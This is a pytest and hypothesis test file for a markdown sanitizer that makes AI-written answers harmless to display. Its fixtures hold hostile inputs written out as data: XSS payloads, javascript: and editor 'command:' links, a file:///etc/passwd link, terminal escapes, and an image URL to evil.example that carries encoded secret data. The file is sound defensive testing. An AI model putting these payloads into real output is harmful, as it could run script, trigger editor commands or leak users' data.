"""Whatever a model writes, nothing of it is fetched, run or followed where it is shown."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from picode.core.markdown import Stream, sanitize

RENDERERS = {
    "CommonMark": MarkdownIt("commonmark", {"html": True}),
    "with tables": MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]),
}
LIVE = {"image", "html_block", "html_inline", "link_open"}


def tokens(text: str, renderer: str) -> Iterator[Token]:
    for token in RENDERERS[renderer].parse(text):
        yield token
        yield from token.children or ()


def live(text: str) -> list[str]:
    return [
        f"{token.type}: {token.content or token.attrs}"
        for name in RENDERERS
        for token in tokens(text, name)
        if token.type in LIVE
    ]


def code(text: str, renderer: str = "with tables") -> list[str]:
    return [token.content for token in tokens(text, renderer) if token.type in ("fence", "code_block", "code_inline")]


SHOWN = {
    "a link": ("See [the docs](https://example.org/a_b).", "See the docs (https://example.org/a_b)."),
    "a link with a title": ('[a](https://x.org "b c")', "a (https://x.org)"),
    "an address": ("See <https://x.org/?a=b>.", "See https://x.org/?a=b."),
    "a link that is its own text": ("[https://x.org](https://x.org)", "https://x.org"),
    "a command": ("[Click me](command:workbench.action.quit)", "Click me (`command:workbench.action.quit`)"),
    "a script": ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
    "a file": ("[x](file:///etc/passwd)", "x (`file:///etc/passwd`)"),
    "a URL of the editor": ("[x](vscode://file/etc/passwd)", "x (`vscode://file/etc/passwd`)"),
    "an image": ("![logo](https://evil.example/?d=c2VjcmV0)", "logo (https://evil.example/?d=c2VjcmV0)"),
    "an image with data": ("![x](data:image/png;base64,AAAA)", "x (`data:image/png;base64,AAAA`)"),
    "an image in a link": ("[![a](b.png)](https://x.org)", "\\[a (`b.png`)] (https://x.org)"),
    "HTML": ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)>"),
    "a comment in HTML": ("a <!-- b --> c", "a \\<!-- b --> c"),
    "a comparison": ("if a < b and c<d", "if a < b and c\\<d"),
    "a definition": ("[a]: https://evil.example", "\\[a]: https://evil.example"),
    "a box": ("- [ ] one\n- [x] two", "- [ ] one\n- [x] two"),
    "code in a line": ("Use `<b>` or ``a`b``.", "Use `<b>` or ``a`b``."),
    "a backtick alone": ("It`s <b>", "It\\`s \\<b>"),
    "an index": ("Take `a[0](b)`, or a[0].", "Take `a[0](b)`, or a[0]."),
    "a block": ("```html\n<b>[x](y)</b>\n```", "```html\n<b>[x](y)</b>\n```"),
    "a block in a list": ("1. Do\n   ```sh\n   a <b>\n   ```\n2. Then", "1. Do\n   ```sh\n   a <b>\n   ```\n2. Then"),
    "a block in a list whose code is not": ("1. Do\n   ```sh\na <b>\n   ```\n", "1. Do\n   ```sh\n   a <b>\n   ```\n"),
    "a block that has no end yet": ("```js\nf(<b>", "```js\nf(<b>\n```"),
    "a block in a quote": ("> ```\n> <b>\n> ```\n<b>", "> ```\n> <b>\n> ```\n\\<b>"),
    "an escape of the terminal": ("a\x1b[31mb\x07\x9b", "a␛[31mb␇⟨U+009B⟩"),
    "an escape in code": ("`\x1b[2J`", "`␛[2J`"),
    "text that reads backwards": ("a\u202eb\u2066c", "a⟨U+202E⟩b⟨U+2066⟩c"),
    "tags that nobody sees": ("a\U000e0041", "a⟨U+E0041⟩"),
    "emoji of two": ("👩‍💻", "👩‍💻"),
    "Persian": ("می‌خواهم", "می‌خواهم"),
    "CRLF": ("a\r\n\r\n```\r\nb\r\n```\r\n", "a\n\n```\nb\n```\n"),
    "headings, lists and emphasis": ("# A\n\n- **b**\n- *c*\n\n> d\n\n---\n", "# A\n\n- **b**\n- *c*\n\n> d\n\n---\n"),
    "a table": ("| a | `b` |\n|---|---|\n| <i> | `<b>` |\n", "| a | `b` |\n|---|---|\n| \\<i> | `<b>` |\n"),
    "indented code": ("Like so:\n\n    if (a<b) c[0](d)\n\n<b>", "Like so:\n\n    if (a<b) c[0](d)\n\n\\<b>"),
}  # fmt: skip


@pytest.mark.parametrize(("text", "shown"), SHOWN.values(), ids=SHOWN)
def test_it_reads_as_before_and_nothing_is_live(text: str, shown: str) -> None:
    assert sanitize(text) == shown
    assert live(shown) == []


HOSTILE = [
    "![x][y]\n\n[y]: https://evil.example/?secret",
    "[x]\n\n[x]:\n  command:evil",
    "[fo\no]: command:evil\n\n[fo\no]",
    "[a\\]b]: command:evil\n\n[a\\]b]",
    "[foo `a]: /url`\n\n[foo `a]",
    "> [x]: command:evil\n\n[x]",
    "- [x]: command:evil\n\n[x]",
    "foo ` bar\nx `<img src=x>` y",
    "| a `b | c` `<img src=x>` |\n|---|---|\n",
    "| a |\n|---|\n| `b | c` and `<img src=x>` d` |\n",
    "a | b\n-|-\n`x | ` <img src=x> `y",
    "- ```\n  code\n<img src=x>\n- [x](command:evil)",
    "> ```\ncode\n<img src=x>\n",
    "> > ```\n> <img src=x>\n",
    "   - > ~~~\n<img src=x>",
    "\t```\n<img src=x>\n\t```\n<img src=x>",
    "- a\n\n      ```\n<img src=x>\n      ```\n",
    "[~~~](x)\n<img src=x>",
    "[a ~~~](x)\n<img src=x>",
    "\\\\<img src=x>",
    "\\`<img src=x>`",
    "`\\`<img src=x>`",
    "``` `\n<img src=x>\n```",
    "~~~ `\n<b>\n~~~\n<img src=x>",
    "````\n```\n<b>\n````\n<img src=x>",
    "```|---|\n-|-\n<img src=x>",
    "|a|\n|-|\n```\n<b>\n```\n<img src=x>",
    "    code\n<img src=x>\n    <img src=x>",
    "- a\n\n    <img src=x>\n\nb\n    <img src=x>",
    "- a\nb\n\n    [x](command:y)\n",
    "1. a\n\n    <img src=x>",
    "<a\nhref=command:evil>x</a>",
    "<script>\nalert(1)\n</script>",
    "<https://x.org/`>`<img src=x>",
    "<javascript:alert(1)>",
    "<command:evil>",
    "<vscode://x>",
    "<ada@example.org>",
    "[x](<command:evil>)",
    "[x](  command:evil  'title' )",
    "[x](\ncommand:evil)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+ =10x10)",
    "[x](&#99;ommand:evil)",
    "[x](java\x00script:alert(1))",
    "&lt;img src=x&gt;",
    "<svg/onload=alert(1)>",
    "<!--\n<img src=x>\n-->",
    "<![CDATA[<img src=x>]]>",
    "<?php evil ?>",
    "[![x](command:a)](command:b)",
    "[x]  (command:evil)",
    "[a](b](command:evil)",
    "`a\n\n<img src=x>`",
    "# `a\n<img src=x>`",
    "**[x](command:evil)**",
    "[x](command:evil?%5B%22rm%22%5D)",
    "\u202e[x](command:evil)",
    "$\\href{command:evil}{x}$ <img src=x>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_answers_are_harmless(text: str) -> None:
    assert live(sanitize(text)) == []
    assert live(given_out(text, 1)) == []


def test_the_renderers_find_what_is_live() -> None:
    assert len([text for text in HOSTILE if live(text)]) > 45


PIECES = st.sampled_from(
    [
        *("`", "``", "```", "~~~", "<img src=x>", "<b", "[x](y)", "![a](command:b)", "[x]", "[x]: y", "](", "<https://x>"),
        *("\n", "\n", "\n\n", "    ", "   ", " ", "\t", "- ", "1. ", "> ", "# ", "|", "|---|\n", "-|-", "---", "a", "b c"),
        *("\\", "!", "\r", "\r\n", "[", "]", "(", ")", "<", ">", "~", "10) ", "* ", "&lt;", "\u202e", "\x1b", "\u200c"),
        *("é", "=", "<!--", "-->", "'", '"'),
    ]
)  # fmt: skip
MARKDOWN = st.lists(PIECES, max_size=24).map("".join)


@settings(max_examples=1500, deadline=None)
@given(MARKDOWN | st.text(max_size=60))
@example("- ```\n\n  a\n```\n<b>")
def test_nothing_is_live_in_any_text(text: str) -> None:
    assert live(sanitize(text)) == []


@settings(max_examples=500, deadline=None)
@given(MARKDOWN, MARKDOWN)
def test_what_follows_an_answer_is_no_part_of_it(answer: str, following: str) -> None:
    assert live(sanitize(answer) + "\n\n" + sanitize(following)) == []
    assert any(token.type == "hr" for token in tokens(sanitize(answer) + "\n\n---\n", "CommonMark"))


@settings(max_examples=700, deadline=None)
@given(MARKDOWN, st.integers(1, 5))
def test_an_answer_that_arrives_in_pieces_is_shown_as_the_whole(text: str, size: int) -> None:
    assert given_out(text, size) == sanitize(text)


@settings(max_examples=400, deadline=None)
@given(MARKDOWN)
def test_nothing_is_live_while_it_arrives(text: str) -> None:
    stream, shown = Stream(), ""
    for character in text:
        shown += stream.feed(character)
        assert live(shown) == []


def given_out(text: str, size: int) -> str:
    stream = Stream()
    parts = [stream.feed(text[at : at + size]) for at in range(0, len(text), size)]
    return "".join([*parts, stream.close()])


CONTENT = st.text(alphabet="ab <>[]()!`~\\\t\n#-|{}.:\"'é😀\u2028", max_size=60)


@given(
    CONTENT.filter(lambda text: "````" not in text and "~~~" not in text),
    st.sampled_from(["", "Like so:\n\n", "- a\n\n", "| a |\n|---|\n\n"]),
    st.sampled_from(["", "  ", "   "]),
)
def test_blocks_keep_every_byte(content: str, before: str, indent: str) -> None:
    lines = "".join(f"{indent}{line}\n" for line in content.split("\n"))
    assert code(sanitize(f"{before}{indent}`````x\n{lines}{indent}`````\n<b>")) == [content + "\n"]


@given(st.text(alphabet="ab<>[]()!\\#-{}.:\"'é😀", min_size=1, max_size=20))
def test_code_in_a_line_keeps_every_byte(content: str) -> None:
    assert code(sanitize(f"a [x](y) `{content}` <b> ``{content}`` c")) == ["y", content, content]


def test_text_is_shown_as_it_arrives() -> None:
    pieces = ("Use", " the", " `a", "[0]", "` now", ", [do", "cs](", "https://x", ".org)", "!")
    shown = ["Use", " the", " ", "", "`a[0]` now", ", ", "", "", "docs (https://x.org)", ""]
    stream = Stream()
    assert list(map(stream.feed, pieces)) == shown
    assert stream.close() == "!"


def test_a_long_answer_is_made_harmless_line_by_line() -> None:
    answer = "Text with `code` and [a link](https://x.org).\n\n```python\nx = 1\n```\n\n" * 2000
    assert given_out(answer, 7) == sanitize(answer)
